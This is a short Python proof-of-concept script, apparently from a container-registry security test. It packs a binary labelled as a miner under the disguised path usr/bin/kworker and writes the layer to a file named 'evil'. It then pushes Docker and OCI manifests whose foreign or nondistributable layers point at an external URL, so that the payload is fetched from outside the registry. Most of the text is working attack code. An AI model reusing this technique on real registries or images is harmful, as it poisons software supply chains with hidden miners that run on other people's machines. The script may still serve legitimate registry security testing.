# foreign / nondistributable layers with urls, blob absent upstream
import sys, json, hashlib, random, os; sys.path.insert(0,'/tmp/attack'); from t2h import *
tag=str(random.randint(0,10**9))
M2=miner_elf()+tag.encode(); mt2=tarball([('usr/bin/kworker',M2)]); L=gz(mt2)
ld='sha256:'+hashlib.sha256(L).hexdigest(); open('/tmp/attack/r2/foreign/evil','wb').write(L)
cfgb=config(['sha256:'+hashlib.sha256(mt2).hexdigest()])
for name,lt,mt,cmt in [('fdock','application/vnd.docker.image.rootfs.foreign.diff.tar.gzip',D_M,D_C),
                     ('foci','application/vnd.oci.image.layer.nondistributable.v1.tar+gzip',OCI_M,OCI_C),
                     ('fnormal',OCI_L,OCI_M,OCI_C)]:
    m={'schemaVersion':2,'mediaType':mt,'config':desc(cmt,cfgb),'layers':[{'mediaType':lt,'digest':ld,'size':len(L),'urls':['http://127.0.0.1:15002/evil']}]}
    put_manifest('r2/'+name,'v1',m)
    show(name,get('/v2/r2/%s/manifests/v1'%name))
print(ld)
